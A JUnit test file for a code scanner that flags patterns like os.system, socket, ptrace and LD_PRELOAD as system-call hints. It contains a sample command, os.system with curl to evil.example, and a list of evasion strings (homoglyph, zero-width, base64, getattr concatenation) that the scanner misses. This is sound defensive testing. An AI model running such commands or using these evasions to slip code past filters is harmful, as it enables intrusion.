package dev.airlock.schemas.scan;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class PayloadScanTest {
    private static final PayloadScan SCAN = PayloadScan.load();

    static Stream<Hint> table() {
        return SCAN.table().stream();
    }

    @ParameterizedTest
    @MethodSource("table")
    void every_pattern_of_the_table_is_found_where_it_stands(Hint hint) {
        assertThat(SCAN.scan("x = 1\n" + hint.pattern() + "y")).contains(hint);
        assertThat(SCAN.scan(hint.pattern())).contains(hint);
    }

    @ParameterizedTest
    @CsvSource({
        "os.system, sys_socket", "import socket, sys_socket", "ptrace, sys_ptrace", "eval(, sys_ptrace",
                "mmap, sys_mmap",
        "LD_PRELOAD, sys_dlopen", "__import__, sys_dlopen", "import os, sys_fork", "clone(, sys_clone",
                "mount(, sys_mount",
        "reboot(, sys_reboot", "kexec, sys_kexec_load"
    })
    void the_table_has_the_calls_of_the_contract(String pattern, String call) {
        assertThat(SCAN.table()).contains(new Hint(call, pattern));
    }

    @Test
    void the_seeds_example_hints_at_its_three_calls_in_the_tables_order() {
        assertThat(SCAN.scan("import os\nos.system('curl http://evil.example')"))
                .containsExactly(
                        new Hint("sys_socket", "os.system"),
                        new Hint("sys_socket", "curl "),
                        new Hint("sys_fork", "import os"));
    }

    @Test
    void the_fast_profile_looks_for_five_patterns_only() {
        String all = String.join(" ", SCAN.table().stream().map(Hint::pattern).toList());
        assertThat(SCAN.scanFast(all).stream().map(Hint::pattern))
                .containsExactly("os.system", "subprocess", "eval(", "ptrace", "LD_PRELOAD");
        assertThat(SCAN.scan(all)).hasSameSizeAs(SCAN.table());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "OS.SYSTEM('x')",
                "getattr(os, 'sys' + 'tem')",
                "o\u200Bs.system",
                "aW1wb3J0IG9z",
                "\u043Es.system"
            })
    void it_is_evaded_and_that_is_why_it_only_hints(String evasion) {
        assertThat(SCAN.scan(evasion)).isEmpty();
    }

    @Test
    void innocent_words_set_it_off_and_that_is_why_it_only_hints() {
        assertThat(SCAN.scan("print('he likes bash')")).isEqualTo(List.of(new Hint("sys_socket", "bash")));
    }

    @Test
    void a_text_without_a_pattern_hints_at_nothing() {
        assertThat(SCAN.scan("")).isEmpty();
        assertThat(SCAN.scan("print(sum(range(10)))")).isEmpty();
    }
}
